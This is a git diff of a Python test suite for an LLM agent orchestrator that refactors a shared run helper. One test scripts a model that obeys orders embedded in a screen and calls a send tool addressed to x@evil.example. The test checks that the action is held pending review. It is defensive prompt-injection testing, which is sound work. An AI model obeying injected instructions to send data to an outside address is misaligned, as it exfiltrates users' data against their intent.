@@ -12,24 +12,13 @@ from brain import brain
 from langchain_core.messages import BaseMessage
 from services.sandboxed import needs_sandbox
 from typer.testing import CliRunner
+from worked.model_runs import ROLES, worked_by_model
 
 from orchestrator.cli import app
 from orchestrator.crew import Crew
 from orchestrator.runs.outcome import Outcome
 from orchestrator.store.salvage import salvage
-from orchestrator.tasks.tasks import resolve_target
 from roles.policies.scripted_model import ScriptedChatModel
-
-TASK = "total-into-a-note"
-ROLES = ("manager", "operator", "evaluator")
-
-
-def run(tmp_path: Path, model: Any, *overrides: str, policy: str = "llm", **parts: Any) -> Outcome:
-    chosen = [f"crew.{role}.policy={policy}" for role in ROLES]
-    settings = [*chosen, "crew.model=given", "retries.wait=0.001", f"runs_dir={tmp_path}", *overrides]
-    target = resolve_target(TASK)
-    crew = Crew.from_config(overrides=settings, model=model, **parts)
-    return crew.run(target)
 
 
 def events(outcome: Outcome, kind: str) -> list[dict[str, Any]]:
@@ -41,7 +30,7 @@ def events(outcome: Outcome, kind: str) -> list[dict[str, Any]]:
 @pytest.mark.parametrize("structure", ["auto", "tools", "text"])
 def test_a_model_works_a_task_in_every_way_of_asking(tmp_path: Path, structure: str) -> None:
     settings = f"crew.model={{name: given, structure: {structure}, prices: {{tokens_in: 1, tokens_out: 4}}}}"
-    outcome = run(tmp_path, ScriptedChatModel(answer=brain), settings)
+    outcome = worked_by_model(tmp_path, brain, settings)
     assert outcome.status == "fulfilled", outcome.reason
     assert outcome.report["judge"]["passed"]
     calls = events(outcome, "model_call")
@@ -52,8 +41,7 @@ def test_a_model_works_a_task_in_every_way_of_asking(tmp_path: Path, structure: 
 
 
 def test_bad_answers_and_a_busy_server_are_got_over(tmp_path: Path) -> None:
-    model = ScriptedChatModel(answer=brain, malformed=0.2, errors=0.2, seed=8)
-    outcome = run(tmp_path, model, "limits.reasks=5")
+    outcome = worked_by_model(tmp_path, brain, "limits.reasks=5", malformed=0.2, errors=0.2, seed=8)
     assert outcome.status == "fulfilled", outcome.reason
     assert outcome.report["judge"]["passed"]
     problems = [call["problem"] for call in events(outcome, "model_call") if "problem" in call]
@@ -63,8 +51,7 @@ def test_bad_answers_and_a_busy_server_are_got_over(tmp_path: Path) -> None:
 
 
 def test_rules_take_over_from_a_model_that_only_talks(tmp_path: Path) -> None:
-    chatting = ScriptedChatModel(answer=lambda _: "Certainly! Happy to help.")
-    outcome = run(tmp_path, chatting, policy="fallback")
+    outcome = worked_by_model(tmp_path, lambda _: TALK, *(f"crew.{role}.policy=fallback" for role in ROLES))
     assert outcome.status == "fulfilled", outcome.reason
     assert outcome.report["judge"]["passed"]
     told = events(outcome, "policy")
@@ -103,7 +90,7 @@ def test_a_model_that_only_talks_is_left_after_the_reasks_and_its_words_are_kept
 
 
 def test_a_spent_budget_ends_the_run_as_such(tmp_path: Path) -> None:
-    outcome = run(tmp_path, ScriptedChatModel(answer=brain), "limits.role_tokens={operator: 3000}")
+    outcome = worked_by_model(tmp_path, brain, "limits.role_tokens={operator: 3000}")
     assert (outcome.exit_code, outcome.report["ended_by"]) == (4, "budget_spent")
     assert "limits.role_tokens.operator" in outcome.reason
     counted = [call for call in events(outcome, "model_call") if call["role"] == "operator"]
@@ -120,7 +107,7 @@ def test_a_screen_that_gives_orders_is_data_to_the_model_and_reviewed_all_the_sa
                     "arguments": {"to": "x@evil.example", "subject": "s", "body": "b"}, "status": "CONTINUE"}  # fmt: skip
         return answer
 
-    outcome = run(tmp_path, ScriptedChatModel(answer=obeys))
+    outcome = worked_by_model(tmp_path, obeys)
     assert outcome.exit_code == 3
     assert outcome.pending
     assert outcome.pending["effect"] == "send"
